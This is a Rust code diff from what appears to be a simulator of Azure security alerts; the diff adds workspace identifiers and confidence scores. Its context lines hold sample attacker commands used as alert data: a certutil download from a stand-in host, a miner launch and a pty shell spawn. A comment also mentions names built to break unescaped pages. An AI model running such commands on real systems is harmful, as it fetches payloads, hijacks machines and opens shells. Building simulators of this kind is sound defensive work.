@@ -8,7 +8,9 @@ use serde_json::{Map, Value, json};
 use super::alert_types::AlertType;
 use super::company::{PEOPLE, TENANT_DOMAIN};
 use super::resources::{Kind, Resource};
-use crate::practice::dice::{alert_name, azure_time, dice, guid_from, hex, text_of};
+use super::workspaces::Workspace;
+use crate::practice::dice::{alert_name, azure_time, dice, guid, guid_from, hex, text_of};
+use crate::practice::import::group_of;
 use crate::practice::journal::Malformed;
 
 /// Attackers choose these names; some are meant to break pages that show them unescaped.
@@ -31,6 +33,13 @@ const COMMANDS: &[&str] = &[
     "certutil -urlcache -split -f https://drop.example/p.bin %TEMP%\\p.bin",
     "nohup ./kworkerd -o stratum+tcp://pool.example:4444 -u \"wallet\" &",
     "python3 -c \"import pty; pty.spawn('/bin/sh')\"",
+];
+
+/// Alert types that say how sure they are: level, score, and what of the alert made them so sure.
+const CONFIDENCE: &[(&str, &str, f64, &str, &str)] = &[
+    ("VM_QuietMiner", "High", 0.9, "Process", "The process talks to an address that pools of miners use."),
+    ("VM_PasswordSprayWon", "Low", 0.4, "User", "The account signed in from this network before."),
+    ("SQL_BruteForceHit", "High", 0.8, "Computer", "The address tried the same names at other servers."),
 ];
 
 /// Everything an alert is made of.
@@ -110,8 +119,15 @@ impl Recipe {
         )
     }
 
-    /// `properties` as ARM answers them.
-    pub(in crate::practice) fn properties(&self, seed: u64, tenant: &str, resource: &Resource, status: &str) -> Value {
+    /// `properties` as ARM answers them. Agents of machines report to the workspace.
+    pub(in crate::practice) fn properties(
+        &self,
+        seed: u64,
+        tenant: &str,
+        resource: &Resource,
+        workspace: Option<&Workspace>,
+        status: &str,
+    ) -> Value {
         let mut rng = dice(seed, "details", self.nonce);
         let about = self.alert_type;
         let user = text_of(&mut rng, PEOPLE);
@@ -154,10 +170,7 @@ impl Recipe {
             "timeGeneratedUtc": azure_time(self.generated),
             "processingEndTimeUtc": azure_time(self.processed),
             "compromisedEntity": resource.name,
-            "resourceIdentifiers": [
-                {"$id": "ald_1", "azureResourceId": resource.id, "type": "AzureResource", "azureResourceTenantId": tenant},
-                {"$id": "ald_2", "aadTenantId": tenant, "type": "AAD"},
-            ],
+            "resourceIdentifiers": identifiers(seed, tenant, resource, workspace),
             "remediationSteps": about.remediation.iter().map(|step| fill(step)).collect::<Vec<_>>(),
             "extendedProperties": extended(about, resource, user, &address, process, command, &mut rng),
             "extendedLinks": [{"href": format!("https://alerts.{TENANT_DOMAIN}/runbooks/{}", about.key), "category": null, "label": "Runbook", "type": "webLink"}],
@@ -169,9 +182,34 @@ impl Recipe {
             properties["alertDisplayName"] = format!("[SAMPLE ALERT] {}", about.title).into();
             properties["description"] = format!("THIS IS A SAMPLE ALERT: {}", fill(about.description)).into();
         }
+        add_confidence(&mut properties, about.key);
         pad(&mut properties, self.bytes);
         properties
     }
+}
+
+fn identifiers(seed: u64, tenant: &str, resource: &Resource, workspace: Option<&Workspace>) -> Vec<Value> {
+    let mut found = vec![
+        json!({"$id": "ald_1", "azureResourceId": resource.id, "type": "AzureResource", "azureResourceTenantId": tenant}),
+        json!({"$id": "ald_2", "aadTenantId": tenant, "type": "AAD"}),
+    ];
+    if let Some(workspace) = workspace
+        && matches!(resource.kind, Kind::Machine | Kind::ArcMachine)
+    {
+        found.push(json!({
+            "$id": "ald_9", "workspaceId": workspace.customer_id, "workspaceSubscriptionId": workspace.subscription,
+            "workspaceResourceGroup": group_of(&workspace.id).unwrap_or_default(), "agentId": guid(seed, &resource.id, 13),
+            "type": "LogAnalytics", "workspaceTenantId": tenant,
+        }));
+    }
+    found
+}
+
+fn add_confidence(properties: &mut Value, key: &str) {
+    let Some((_, level, score, of, reason)) = CONFIDENCE.iter().find(|(known, ..)| *known == key) else { return };
+    properties["confidenceLevel"] = json!(level);
+    properties["confidenceScore"] = json!(score);
+    properties["confidenceReasons"] = json!([{"type": of, "reason": reason}]);
 }
 
 /// Lengthens the description until the JSON has the wanted size.
